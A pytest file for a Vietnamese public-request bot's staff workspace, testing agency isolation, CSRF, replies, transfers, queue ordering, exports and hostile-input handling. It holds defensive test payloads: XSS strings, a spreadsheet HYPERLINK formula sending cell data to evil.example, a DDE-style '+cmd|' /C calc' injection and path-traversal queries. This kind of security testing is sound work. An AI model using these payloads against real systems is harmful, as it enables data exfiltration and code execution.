"""The staff workspace over HTTP (in process): isolation between agencies, CSRF, the request actions
and what the person hears, the queue's order, filters and paging, exports, and hostile input."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from bot.accounts.service import create_user
from bot.app import App
from bot.requests.escalation import escalate_overdue
from bot.storage.models import AuditLogRow, InboundUpdateRow, OutboxRow, RequestEventRow, RequestViewRow
from bot.web.app import create_web_app
from handlers.domain import NewRequest
from handlers.routing import route
from tests.handlers.test_conversation_intake import at_step
from tests.harness import FakeClock, Person
from tests.storage.sessions import session_of

JOBS, COMMUNE = "demo-vieclam", "demo-ubnd"
PASSWORD = "mật khẩu thử nghiệm 123"
_CSRF = re.compile(r'name="csrf_token" value="([0-9a-f]+)"')
_NONCE = re.compile(r'name="nonce" value="([^"]+)"')
_ROW = re.compile(r'<tr class="(overdue)?" data-code="(YC-\d+)"')


# -- set-up --------------------------------------------------------------------------------------


@pytest.fixture
async def staffed(demo_app: App, clock: FakeClock) -> App:
    """The demo province with: vieclam (lead) and vieclam2 of the jobs centre, ubnd of the commune
    committee, and an admin."""
    async with demo_app.uow() as uow:
        for username, role, agency, lead, name in (
            ("vieclam", "staff", JOBS, True, "Chị Lan"),
            ("vieclam2", "staff", JOBS, False, "Anh Hùng"),
            ("ubnd", "staff", COMMUNE, True, ""),
            ("admin", "admin", None, False, ""),
        ):
            await create_user(
                uow,
                username,
                PASSWORD,
                role,
                clock(),
                actor="test",
                agency_code=agency,
                is_lead=lead,
                display_name=name,
            )
        await uow.commit()
    return demo_app


async def new_request(
    app: App,
    *,
    category: str = "employment",
    locality: str = "mh-an-hoa",
    description: str = "Tôi cần tìm việc làm phụ hồ gần nhà",
    name: str = "Anh Minh",
    phone: str = "+84356789012",
    channel: str = "web",
    chat_id: str = "chat-1",
) -> str:
    """A request as the form files it, routed by the real rules."""
    async with app.uow() as uow:
        now = app.clock()
        place = await uow.localities.get(locality)
        assert place is not None
        decision = route(category, place, await uow.rules.active_rules())
        assert decision is not None
        conversation = await uow.conversations.get_or_create(channel, chat_id, chat_id, now)
        code = await uow.requests.create(
            NewRequest(conversation.id, category, description, locality, phone, name, "morning", now, decision), now
        )
        await uow.commit()
    return code


async def person_request(app: App, chat_id: str = "p1") -> tuple[Person, str]:
    """A request sent through the real conversation (the test channel), and its person."""
    person = await at_step(app, "confirm", chat_id=chat_id)
    await person.presses("form:confirm")
    return person, person.text.split("Mã của bạn: ")[1].split()[0]


class Browser:
    """An in-process client that keeps cookies and reads tokens off pages, as a browser would."""

    def __init__(self, http: httpx.AsyncClient) -> None:
        self.http = http

    async def get(self, path: str, **kwargs: Any) -> httpx.Response:
        return await self.http.get(path, **kwargs)

    async def log_in(self, username: str) -> None:
        page = await self.http.get("/login")
        token = _CSRF.search(page.text)
        assert token is not None
        response = await self.http.post(
            "/login", data={"csrf_token": token.group(1), "username": username, "password": PASSWORD}
        )
        assert response.status_code == 303, response.text

    async def post(self, path: str, data: dict[str, str], *, page: str = "/staff", csrf: bool = True) -> httpx.Response:
        """Post a form the way the page at `page` would (its CSRF token)."""
        fields = dict(data)
        if csrf:
            token = _CSRF.search((await self.http.get(page)).text)
            assert token is not None, f"no form on {page}"
            fields["csrf_token"] = token.group(1)
        return await self.http.post(path, data=fields)

    async def act(self, code: str, action: str, **data: str) -> httpx.Response:
        return await self.post(f"/staff/requests/{code}/{action}", data, page=f"/staff/requests/{code}")


@asynccontextmanager
async def browser(app: App, username: str | None = None) -> AsyncIterator[Browser]:
    transport = httpx.ASGITransport(app=create_web_app(app, []))
    async with httpx.AsyncClient(transport=transport, base_url="http://hoanhap.test") as http:
        client = Browser(http)
        if username:
            await client.log_in(username)
        yield client


def codes_in(page: httpx.Response) -> list[str]:
    return [code for _, code in _ROW.findall(page.text)]


def overdue_in(page: httpx.Response) -> list[str]:
    return [code for overdue, code in _ROW.findall(page.text) if overdue]


async def outbox_to(app: App, channel: str, chat_id: str) -> list[OutboxRow]:
    async with app.uow() as uow:
        statement = select(OutboxRow).where(OutboxRow.channel == channel, OutboxRow.chat_id == chat_id)
        return list((await session_of(uow).execute(statement.order_by(OutboxRow.id))).scalars())


async def events_of(app: App, code: str) -> list[RequestEventRow]:
    async with app.uow() as uow:
        row = await uow.requests.get_row(code)
        assert row is not None
        return await uow.requests.events(row.id)


def aware(moment: datetime | None) -> datetime | None:
    return moment.replace(tzinfo=UTC) if moment is not None and moment.tzinfo is None else moment


# -- access --------------------------------------------------------------------------------------


async def test_only_the_login_and_the_web_chat_answer_without_a_session(staffed: App) -> None:
    code = await new_request(staffed)
    async with browser(staffed) as anonymous:
        assert (await anonymous.get("/")).status_code == 200
        assert (await anonymous.get("/login")).status_code == 200
        for path in ("/staff", f"/staff/requests/{code}", "/staff/export.csv", "/staff/export.xlsx"):
            response = await anonymous.get(path)
            assert response.status_code == 303, path
            assert response.headers["location"].startswith("/login?next=%2Fstaff"), path
        # a valid CSRF token without a session still reaches no action
        response = await anonymous.post(f"/staff/requests/{code}/reply", {"text": "hello"}, page="/login")
        assert response.status_code == 303 and response.headers["location"].startswith("/login")
    assert [e.type for e in await events_of(staffed, code)] == ["created", "routed"]


async def test_staff_see_only_their_own_agencys_queue(staffed: App) -> None:
    jobs = await new_request(staffed)
    social = await new_request(staffed, category="social", description="Xin hỗ trợ xã hội cho mẹ già")
    async with browser(staffed, "vieclam") as staff:
        page = await staff.get("/staff?status=all")
        assert codes_in(page) == [jobs]
        assert social not in page.text and "mẹ già" not in page.text
        # asking for another agency's queue is ignored for staff
        assert codes_in(await staff.get(f"/staff?status=all&agency={COMMUNE}")) == [jobs]
        assert codes_in(await staff.get(f"/staff?q={social}")) == []
    async with browser(staffed, "ubnd") as other:
        assert codes_in(await other.get("/staff")) == [social]
    async with browser(staffed, "admin") as admin:
        assert sorted(codes_in(await admin.get("/staff"))) == sorted([jobs, social])
        assert codes_in(await admin.get(f"/staff?agency={COMMUNE}")) == [social]
        page = await admin.get(f"/staff/requests/{social}")
        assert page.status_code == 200 and "Tôi nhận xử lý" not in page.text  # an admin belongs to no agency
        assert (await admin.act(social, "assign", assignee="ubnd")).status_code == 303
        assert (await admin.act(social, "assign", assignee="vieclam")).status_code == 400


async def test_another_agencys_request_is_a_404_everywhere(staffed: App) -> None:
    theirs = await new_request(staffed, category="social", chat_id="chat-2")
    before = len(await outbox_to(staffed, "web", "chat-2"))
    async with browser(staffed, "vieclam") as staff:
        assert (await staff.get(f"/staff/requests/{theirs}")).status_code == 404
        assert (await staff.get("/staff/requests/YC-000000")).status_code == 404
        for action, data in (
            ("reply", {"text": "xin chào"}),
            ("note", {"text": "ghi chú"}),
            ("claim", {}),
            ("assign", {"assignee": "vieclam"}),
            ("status", {"status": "resolved"}),
            ("transfer", {"agency": JOBS, "reason": "của chúng tôi"}),
        ):
            response = await staff.post(f"/staff/requests/{theirs}/{action}", data)
            assert response.status_code == 404, action
        csv_text = (await staff.get("/staff/export.csv?status=all")).content.decode("utf-8-sig")
        workbook = load_workbook(io.BytesIO((await staff.get("/staff/export.xlsx?status=all")).content))
    assert theirs not in csv_text
    assert theirs not in [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert [e.type for e in await events_of(staffed, theirs)] == ["created", "routed"]
    assert len(await outbox_to(staffed, "web", "chat-2")) == before
    async with staffed.uow() as uow:
        row = await uow.requests.get_row(theirs)
        assert row is not None and (row.agency_code, row.status, row.assignee) == (COMMUNE, "new", None)
        views = (await session_of(uow).execute(select(func.count()).select_from(RequestViewRow))).scalar_one()
        assert views == 0


async def test_a_form_without_the_csrf_token_is_refused(staffed: App) -> None:
    code = await new_request(staffed)
    async with browser(staffed, "vieclam") as staff:
        response = await staff.post(f"/staff/requests/{code}/reply", {"text": "xin chào"}, csrf=False)
        assert response.status_code == 403
        forged = await staff.post(
            f"/staff/requests/{code}/status", {"status": "resolved", "csrf_token": "0" * 64}, csrf=False
        )
        assert forged.status_code == 403
        assert (await staff.post("/staff/notifications/read", {}, csrf=False)).status_code == 403
    assert [e.type for e in await events_of(staffed, code)] == ["created", "routed"]
    assert await outbox_to(staffed, "web", "chat-1") == []


# -- what staff do, and what the person hears ----------------------------------------------------


async def test_a_reply_reaches_the_person_on_their_channel_and_shows_its_delivery(staffed: App) -> None:
    person, code = await person_request(staffed)
    async with browser(staffed, "vieclam") as staff:
        response = await staff.act(code, "reply", text="Mời anh đến Trung tâm sáng thứ Hai.\nMang theo CCCD.")
        assert response.status_code == 303
        assert response.headers["location"] == f"/staff/requests/{code}?done=replied"
        page = await staff.get(response.headers["location"])
        assert "Đã gửi trả lời." in page.text and "đang chờ gửi" in page.text
        assert "Mời anh đến Trung tâm sáng thứ Hai.\nMang theo CCCD." in page.text

        replies = await person.collect()
        assert "Mời anh đến Trung tâm sáng thứ Hai." in replies[0].text
        assert f"req:add:{code}" in [c.id for c in replies[0].choices]  # the person can answer back
        assert "đã gửi" in (await staff.get(f"/staff/requests/{code}")).text

        (event,) = [e for e in await events_of(staffed, code) if e.type == "replied"]
        async with staffed.uow() as uow:
            outbox = await uow.outbox.get(int(event.data["outbox_id"]))
            assert outbox is not None and (outbox.channel, outbox.chat_id) == ("test", "p1")
            outbox.status, outbox.last_error = "failed", "Forbidden: bot was blocked by the user"
            await uow.commit()
        page = await staff.get(f"/staff/requests/{code}")
        assert "gửi lỗi" in page.text and "bot was blocked by the user" in page.text

    async with staffed.uow() as uow:
        row = await uow.requests.get_row(code)
        assert row is not None and row.status == "in_progress" and row.first_response_at is not None


async def test_a_web_chat_reply_shows_as_received_once_fetched(staffed: App) -> None:
    code = await new_request(staffed, chat_id="web-chat")
    async with browser(staffed, "vieclam") as staff:
        await staff.act(code, "reply", text="Chào anh")
        (row,) = await outbox_to(staffed, "web", "web-chat")
        async with staffed.uow() as uow:
            await uow.outbox.mark_delivered([row.id], staffed.clock())  # as the person's chat page does
            await uow.commit()
        assert "đã nhận" in (await staff.get(f"/staff/requests/{code}")).text


async def test_an_internal_note_is_never_sent_to_the_person(staffed: App) -> None:
    person, code = await person_request(staffed)
    async with browser(staffed, "vieclam") as staff:
        response = await staff.act(code, "note", text="Đã gọi, không nghe máy. Gọi lại chiều nay.")
        assert response.headers["location"] == f"/staff/requests/{code}?done=noted"
        page = await staff.get(f"/staff/requests/{code}")
    assert "Ghi chú nội bộ (người gửi không thấy)" in page.text
    assert "Gọi lại chiều nay." in page.text
    assert await person.collect() == []
    assert not [r for r in await outbox_to(staffed, "test", "p1") if "Gọi lại" in str(r.payload)]
    async with staffed.uow() as uow:
        row = await uow.requests.get_row(code)
        assert row is not None and row.first_response_at is None and row.status == "new"


async def test_a_status_change_tells_the_person(staffed: App) -> None:
    person, code = await person_request(staffed)
    async with browser(staffed, "vieclam") as staff:
        assert (await staff.act(code, "status", status="bogus")).status_code == 400
        response = await staff.act(code, "status", status="resolved")
        assert response.headers["location"] == f"/staff/requests/{code}?done=status"
        again = await staff.act(code, "status", status="resolved")
        assert again.headers["location"] == f"/staff/requests/{code}?done=unchanged"
    (told,) = await person.collect()
    assert f"Yêu cầu {code} của bạn: Đã giải quyết." in told.text
    async with staffed.uow() as uow:
        row = await uow.requests.get_row(code)
        assert row is not None and row.status == "resolved" and row.resolved_at is not None


async def test_a_transfer_moves_the_request_and_starts_a_new_clock(staffed: App, clock: FakeClock) -> None:
    person, code = await person_request(staffed)
    reason = "Việc trợ cấp thuộc UBND xã, không phải việc làm"
    # Hours pass for the agencies' clocks, not for the staff member's sign-in.
    staffed.settings.session_idle_minutes = 24 * 60
    async with browser(staffed, "vieclam") as staff:
        await staff.act(code, "claim")
        await staff.act(code, "reply", text="Chúng tôi đã nhận.")
        await person.collect()
        clock.advance(hours=3)
        for bad, message in (
            ({"agency": JOBS, "reason": reason}, "Chọn một cơ quan khác"),
            ({"agency": "khong-co", "reason": reason}, "Chọn một cơ quan khác"),
            ({"agency": COMMUNE, "reason": "   "}, "Cần ghi lý do chuyển"),
        ):
            refused = await staff.act(code, "transfer", **bad)
            assert refused.status_code == 400 and message in refused.text
        response = await staff.act(code, "transfer", agency=COMMUNE, reason=reason)
        assert response.status_code == 303 and response.headers["location"] == "/staff?done=transferred"
        assert "Đã chuyển yêu cầu sang cơ quan khác." in (await staff.get(response.headers["location"])).text
        assert (await staff.get(f"/staff/requests/{code}")).status_code == 404
        assert code not in (await staff.get("/staff?status=all")).text

    (told,) = await person.collect()
    assert "UBND xã/phường tỉnh Minh Họa (mẫu)" in told.text
    assert reason not in told.text and "trợ cấp" not in told.text
    async with staffed.uow() as uow:
        row = await uow.requests.get_row(code)
        assert row is not None
        assert (row.agency_code, row.assignee, row.first_response_at) == (COMMUNE, None, None)
        assert aware(row.agency_since) == clock()

    async with browser(staffed, "ubnd") as other:
        assert code in codes_in(await other.get("/staff"))
        page = await other.get(f"/staff/requests/{code}")
        assert reason in page.text and "Lý do (chỉ cán bộ thấy):" in page.text
        assert "còn 8 giờ làm việc" in page.text  # the new agency's first response target, from now


async def test_claiming_assigning_and_the_assignees_notification(staffed: App) -> None:
    code = await new_request(staffed)
    async with browser(staffed, "vieclam") as lead:
        response = await lead.act(code, "claim")
        assert response.headers["location"] == f"/staff/requests/{code}?done=claimed"
        assert codes_in(await lead.get("/staff?assigned=me")) == [code]
        assert codes_in(await lead.get("/staff?assigned=unassigned")) == []
        assert (await lead.act(code, "assign", assignee="ubnd")).status_code == 400  # not a colleague
        assert (await lead.act(code, "assign", assignee="admin")).status_code == 400
        response = await lead.act(code, "assign", assignee="vieclam2")
        assert response.headers["location"] == f"/staff/requests/{code}?done=assigned"
        page = await lead.get(f"/staff/requests/{code}")
        assert "Nhận xử lý" in page.text and "Giao cho Anh Hùng" in page.text
    async with browser(staffed, "vieclam2") as colleague:
        queue = await colleague.get("/staff")
        assert 'aria-label="1 thông báo chưa đọc"' in queue.text
        assert f"Chị Lan giao cho bạn {code}" in queue.text
        await colleague.get(f"/staff/requests/{code}")  # opening it reads it
        queue = await colleague.get("/staff")
        assert 'aria-label="0 thông báo chưa đọc"' in queue.text and "giao cho bạn" not in queue.text
        assert codes_in(await colleague.get("/staff?assigned=me")) == [code]
        response = await colleague.act(code, "assign", assignee="")
        assert response.headers["location"] == f"/staff/requests/{code}?done=assigned"
        assert codes_in(await colleague.get("/staff?assigned=unassigned")) == [code]


async def test_every_view_is_recorded_and_shown(staffed: App) -> None:
    code = await new_request(staffed)
    async with browser(staffed, "vieclam2") as staff:
        await staff.get(f"/staff/requests/{code}")
    async with browser(staffed, "vieclam") as staff:
        page = await staff.get(f"/staff/requests/{code}")
    async with staffed.uow() as uow:
        row = await uow.requests.get_row(code)
        assert row is not None
        views = await uow.request_views.of_request(row.id)
    assert [(v.actor, v.via) for v in views] == [("vieclam", "web"), ("vieclam2", "web")]
    assert "Anh Hùng" in page.text and "Chị Lan" in page.text


async def test_a_double_submitted_form_acts_once(staffed: App) -> None:
    code = await new_request(staffed)
    async with browser(staffed, "vieclam") as staff:
        page = await staff.get(f"/staff/requests/{code}")
        token, nonce = _CSRF.search(page.text), _NONCE.search(page.text)
        assert token and nonce
        form = {"csrf_token": token.group(1), "nonce": nonce.group(1), "text": "Chào anh"}
        first = await staff.http.post(f"/staff/requests/{code}/reply", data=form)
        second = await staff.http.post(f"/staff/requests/{code}/reply", data=form)
    assert first.headers["location"].endswith("done=replied")
    assert second.headers["location"] == first.headers["location"]
    assert [e.type for e in await events_of(staffed, code)].count("replied") == 1

    # a double click on "transfer": the second lands where the first did, not on a 404
    async with browser(staffed, "vieclam") as staff:
        page = await staff.get(f"/staff/requests/{code}")
        token, nonce = _CSRF.search(page.text), _NONCE.search(page.text)
        assert token and nonce
        form = {"csrf_token": token.group(1), "nonce": nonce.group(1), "agency": COMMUNE, "reason": "việc của xã"}
        first = await staff.http.post(f"/staff/requests/{code}/transfer", data=form)
        second = await staff.http.post(f"/staff/requests/{code}/transfer", data=form)
    assert first.headers["location"] == second.headers["location"] == "/staff?done=transferred"
    assert [e.type for e in await events_of(staffed, code)].count("transferred") == 1
    async with staffed.uow() as uow:
        assert (await session_of(uow).execute(select(func.count()).select_from(InboundUpdateRow))).scalar_one() >= 1


# -- the queue -----------------------------------------------------------------------------------


async def test_overdue_requests_come_first_and_the_leads_are_told(staffed: App, clock: FakeClock) -> None:
    oldest = await new_request(staffed, chat_id="a")
    clock.advance(hours=1)
    answered = await new_request(staffed, chat_id="b")
    clock.advance(hours=1)
    later = await new_request(staffed, chat_id="c")
    async with browser(staffed, "vieclam") as staff:
        await staff.act(answered, "reply", text="Đã nhận, sẽ gọi anh.")
    clock.advance(days=3)  # Monday 15:00 (Hà Nội) to Thursday: the 8 working hours have passed
    fresh = await new_request(staffed, chat_id="d")
    assert await escalate_overdue(staffed.database, staffed.texts, staffed.settings.timezone, clock()) == 2

    async with browser(staffed, "vieclam") as staff:
        page = await staff.get("/staff")
        # overdue first, by how long ago they were due; then the rest by their next due time
        assert codes_in(page) == [oldest, later, fresh, answered]
        assert overdue_in(page) == [oldest, later]
        assert "quá hạn" in page.text and "Quá hạn: 2" in page.text
        assert codes_in(await staff.get("/staff?status=overdue")) == [oldest, later]
        # the lead's notifications, once per request
        assert 'aria-label="2 thông báo chưa đọc"' in page.text
        assert f"{oldest}: quá hạn phản hồi lần đầu" in page.text
        assert (await staff.post("/staff/notifications/read", {})).headers["location"] == "/staff?done=read"
        assert 'aria-label="0 thông báo chưa đọc"' in (await staff.get("/staff")).text

    clock.advance(days=60)  # long after everything's resolution target
    async with browser(staffed, "vieclam") as staff:
        page = await staff.get("/staff")
        assert codes_in(page) == overdue_in(page) == [oldest, later, fresh, answered]


async def test_filters_search_and_counts(staffed: App) -> None:
    a = await new_request(staffed, description="Cần việc làm thợ hàn", name="Nguyễn Văn Tâm", phone="+84912345678")
    b = await new_request(
        staffed, category="training", locality="mh-cat-tuong", description="Muốn học nghề sửa xe 100%"
    )
    c = await new_request(staffed, description="Xin việc bảo vệ", phone="+84987654321", name="Lê Thị Hoa")
    async with browser(staffed, "vieclam") as staff:
        await staff.act(c, "status", status="resolved")
        assert sorted(codes_in(await staff.get("/staff"))) == sorted([a, b])
        assert sorted(codes_in(await staff.get("/staff?status=all"))) == sorted([a, b, c])
        assert codes_in(await staff.get("/staff?status=resolved")) == [c]
        assert codes_in(await staff.get("/staff?category=training")) == [b]
        assert codes_in(await staff.get("/staff?commune=mh-cat-tuong")) == [b]
        assert codes_in(await staff.get("/staff?q=thợ hàn")) == [a]
        assert codes_in(await staff.get("/staff?q=tâm")) == [a]  # the name, any case
        assert codes_in(await staff.get("/staff?q=tho han")) == [a]  # typed without diacritics
        assert codes_in(await staff.get("/staff?q=NGUYEN VAN")) == [a]
        assert codes_in(await staff.get("/staff?q=Sửa Xe")) == [b]
        assert codes_in(await staff.get("/staff?q=0912 345")) == [a]  # the phone as people write it
        assert codes_in(await staff.get("/staff?status=all&q=987654321")) == [c]
        assert codes_in(await staff.get(f"/staff?q={b[3:]}")) == [b]  # the code's digits
        assert codes_in(await staff.get("/staff", params={"q": "100%"})) == [b]  # a wildcard is a character
        assert codes_in(await staff.get("/staff", params={"q": "%"})) == [b]
        assert codes_in(await staff.get("/staff", params={"q": "_"})) == []
        page = await staff.get("/staff?status=all")
        for count in ("Đang mở: 2", "Mới gửi: 2", "Đã giải quyết: 1", "Tất cả: 3"):
            assert count in page.text
        # counts follow the other filters
        assert "Tất cả: 1" in (await staff.get("/staff?category=training")).text
        # phones are masked in the queue, whole on the request page
        assert "+84 91*** *678" in page.text and "0912 345 678" not in page.text
        assert "0912 345 678" in (await staff.get(f"/staff/requests/{a}")).text


async def test_the_queue_pages_by_fifty(staffed: App, clock: FakeClock) -> None:
    async with staffed.uow() as uow:
        conversation = await uow.conversations.get_or_create("web", "many", "many", clock())
        place = await uow.localities.get("mh-an-hoa")
        assert place is not None
        decision = route("employment", place, await uow.rules.active_rules())
        assert decision is not None
        for i in range(55):
            clock.advance(minutes=1)
            request = NewRequest(
                conversation.id, "employment", f"Yêu cầu số {i}", "mh-an-hoa", "+84356789012", "", "", clock(), decision
            )
            await uow.requests.create(request, clock())
        await uow.commit()
    async with browser(staffed, "vieclam") as staff:
        first = await staff.get("/staff")
        assert len(codes_in(first)) == 50 and "Trang 1/2" in first.text and "55 yêu cầu" in first.text
        second = await staff.get("/staff?page=2")
        assert len(codes_in(second)) == 5 and not set(codes_in(first)) & set(codes_in(second))
        assert codes_in(await staff.get("/staff?page=99")) == codes_in(second)
        assert (await staff.get("/staff?page=2&status=all")).status_code == 200


async def test_malformed_addresses_and_huge_inputs_are_refused_cleanly(staffed: App) -> None:
    code = await new_request(staffed)
    async with browser(staffed, "vieclam") as staff:
        for query in (
            "page=-1",
            "page=abc",
            "page=99999999999999999999",
            "status=bogus",
            "assigned=everyone",
            "category=../../etc",
            "commune=%00",
            "agency=demo-ubnd",
            "q=" + "x" * 10_000,
            "status=all&status=new",
        ):
            for path in ("/staff", "/staff/export.csv"):
                response = await staff.get(f"{path}?{query}")
                assert response.status_code == 200, (path, query)
        assert (await staff.get("/staff/requests/" + "Y" * 5000)).status_code == 404
        huge = await staff.act(code, "reply", text="á" * 100_000)
        assert huge.status_code == 400 and "Nội dung dài quá (tối đa 4000 ký tự)." in huge.text
        assert (await staff.act(code, "reply", text="   ")).status_code == 400
        assert (await staff.act(code, "note", text="x" * 4001)).status_code == 400
        long_reason = await staff.act(code, "transfer", agency=COMMUNE, reason="r" * 501)
        assert long_reason.status_code == 400
        assert (await staff.act(code, "assign", assignee="x" * 10_000)).status_code == 400
        assert (await staff.act(code, "reply", text="ok", nonce="n" * 1000)).status_code == 303
    assert [e.type for e in await events_of(staffed, code)] == ["created", "routed", "replied", "status"]


async def test_a_persons_markup_is_shown_as_text(staffed: App) -> None:
    hostile = '<script>alert(1)</script><b>bold</b>"><img src=x onerror=alert(2)>'
    code = await new_request(staffed, description=hostile, name="<i>Tên</i>")
    async with staffed.uow() as uow:
        await uow.requests.add_event(code, "person_message", staffed.clock(), actor="person", data={"text": hostile})
        await uow.commit()
    async with browser(staffed, "vieclam") as staff:
        for page in (await staff.get("/staff"), await staff.get(f"/staff/requests/{code}")):
            assert "<script>alert" not in page.text and "<b>bold" not in page.text and "<img" not in page.text
            assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;" in page.text
            assert "<i>Tên" not in page.text
            assert "script-src 'self'" in page.headers["content-security-policy"]


# -- exports -------------------------------------------------------------------------------------


async def test_exports_hold_the_filtered_queue_neutralised_and_are_audited(staffed: App) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
    a = await new_request(staffed, description=formula, name="+cmd|' /C calc'!A0", phone="+84912345678")
    b = await new_request(staffed, category="training", description="@SUM(1+1)", name="-2+3")
    async with browser(staffed, "vieclam") as staff:
        response = await staff.get("/staff/export.csv")
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"].startswith('attachment; filename="hoanhap-')
        assert response.headers["cache-control"] == "no-store"
        assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads the Vietnamese as UTF-8
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        header, body = rows[0], {row[0]: row for row in rows[1:]}
        assert header[:4] == ["Mã", "Trạng thái", "Loại việc", "Xã/phường"]
        assert set(body) == {a, b}
        assert body[a][header.index("Nội dung")] == "'" + formula
        assert body[a][header.index("Tên")] == "'+cmd|' /C calc'!A0"
        assert body[a][header.index("Số điện thoại")] == "0912 345 678"
        assert body[b][header.index("Nội dung")] == "'@SUM(1+1)" and body[b][header.index("Tên")] == "'-2+3"

        filtered = await staff.get("/staff/export.xlsx?category=training")
        sheet = load_workbook(io.BytesIO(filtered.content)).active
        cells = [[cell for cell in row] for row in sheet.iter_rows()]
        assert [row[0].value for row in cells[1:]] == [b]
        # What the person typed is text, never a formula; only the times are dates.
        assert all(cell.data_type in ("s", "d") for row in cells for cell in row if cell.value is not None)
        assert not any(isinstance(cell.value, str) and cell.value.startswith("=") for row in cells for cell in row)
        assert "'@SUM(1+1)" in [cell.value for cell in cells[1]]

        await staff.get("/lang/en?next=/staff")  # the language switch
        english = await staff.get("/staff/export.csv")
        assert "Request queue" in (await staff.get("/staff")).text
        assert "Timeline" in (await staff.get(f"/staff/requests/{a}")).text
        assert english.content.decode("utf-8-sig").startswith("Code,Status,Category,Commune")
    async with staffed.uow() as uow:
        audit = list((await session_of(uow).execute(select(AuditLogRow).order_by(AuditLogRow.id))).scalars())
    exports = [
        (r.actor, r.action, r.target, (r.after or {}).get("rows")) for r in audit if r.action == "requests.export"
    ]
    assert exports == [
        ("vieclam", "requests.export", "csv", 2),
        ("vieclam", "requests.export", "xlsx", 1),
        ("vieclam", "requests.export", "csv", 2),
    ]


async def test_the_xlsx_opens_ready_for_excel_with_local_date_times(staffed: App, clock: FakeClock) -> None:
    clock.now = datetime(2026, 11, 2, 21, 44, tzinfo=UTC)  # 04:44 on the 3rd in Việt Nam
    code = await new_request(staffed, description="Cần việc\x01 làm\x07 gấp")
    await new_request(staffed, category="training", name="Chị Hoa", chat_id="chat-2")
    async with browser(staffed, "vieclam") as staff:
        response = await staff.get("/staff/export.xlsx")
        csv_rows = list(csv.reader(io.StringIO((await staff.get("/staff/export.csv")).content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(rows) == {code, *[r[0] for r in csv_rows[1:]]} and len(rows) == 2
    created = rows[code][header.index("Ngày gửi")]
    assert created.is_date and created.value == datetime(2026, 11, 3, 4, 44)
    assert created.number_format == "dd/mm/yyyy hh:mm"
    assert rows[code][header.index("Nội dung")].value == "Cần việc làm gấp"  # control characters dropped
    # Every time column holds a date-time, never text that Excel cannot sort.
    for name in ("Ngày gửi", "Cơ quan nhận lúc", "Hạn phản hồi lần đầu", "Hạn giải quyết"):
        assert all(row[header.index(name)].is_date for row in rows.values()), name
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:Q{len(rows) + 1}"
    assert all(cell.font.b for cell in sheet[1])
    widths = {letter: sheet.column_dimensions[letter].width for letter in ("A", "L")}
    assert widths["A"] >= 10 and widths["L"] >= 40  # the code whole, the description readable
    # The CSV stays text: the same time as the staff pages write it.
    assert csv_rows[0] == header
    assert next(r for r in csv_rows if r[0] == code)[header.index("Ngày gửi")] == "03/11/2026 04:44"


def test_every_text_the_workspace_builds_a_key_for_exists() -> None:
    from bot.requests.views.export import COLUMNS
    from bot.requests.views.queue import ASSIGNED_CHOICES, NOTICES, STATUS_ALL, STATUS_OPEN, STATUS_OVERDUE, Names
    from bot.requests.views.timeline import DELIVERY
    from bot.web.i18n import load_web_catalogues
    from handlers.domain import STATUSES

    keys = (
        [f"ws_done_{n}" for n in NOTICES]
        + [f"ws_column_{c}" for c in COLUMNS]
        + [f"ws_assigned_{a}" for a in ASSIGNED_CHOICES]
        + [f"ws_status_{s}" for s in (STATUS_OPEN, STATUS_OVERDUE, STATUS_ALL, *STATUSES)]
        + [f"ws_delivery_{d}" for d in (*DELIVERY.values(), "unknown", "none")]
        + [f"ws_channel_{c}" for c in Names.CHANNELS]
        + [f"ws_scope_{s}" for s in ("locality", "province", "any")]
        + [f"ws_notification_{k}" for k in ("overdue", "assigned", "other")]
        + [f"ws_{kind}_{how}" for kind in ("first", "resolution") for how in ("met", "late")]
    )
    for locale, texts in load_web_catalogues().items():
        assert not [key for key in keys if key not in texts], locale


async def test_a_backlog_beyond_the_ordered_head_still_shows_every_request(
    staffed: App, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.requests.views import queue as staff_queue
    from bot.storage.repos.queue import QueueScope
    from bot.web.i18n import web_texts

    monkeypatch.setattr(staff_queue, "OPEN_LIMIT", 3)  # as if the agency had thousands open
    codes = []
    for i in range(6):
        codes.append(await new_request(staffed, chat_id=f"b{i}"))
        clock.advance(minutes=10)
    async with browser(staffed, "vieclam") as staff:
        await staff.act(codes[2], "status", status="closed")
        page = await staff.get("/staff?status=all")
        assert sorted(codes_in(page)) == sorted(codes)
        assert "chỉ sắp xếp 3 yêu cầu chờ lâu nhất" in page.text and "6 yêu cầu" in page.text

    def t(key: str, **values: Any) -> str:
        return web_texts().get("vi", key, **values)

    scope = QueueScope("vieclam", JOBS, False)
    seen: list[str] = []
    async with staffed.uow() as uow:
        for number in (1, 2, 3, 4):
            params = staff_queue.QueueParams(status="all", page=number)
            queue = await staff_queue.load_queue(uow, staffed, scope, params, t, page_size=2)
            assert (queue.total, queue.pages) == (6, 3)
            seen += [item.row.code for item in queue.items] if number <= 3 else []
    # the ordered head, then the rest as they waited, then the finished one
    open_codes = [c for c in codes if c != codes[2]]
    assert seen == [*open_codes, codes[2]]
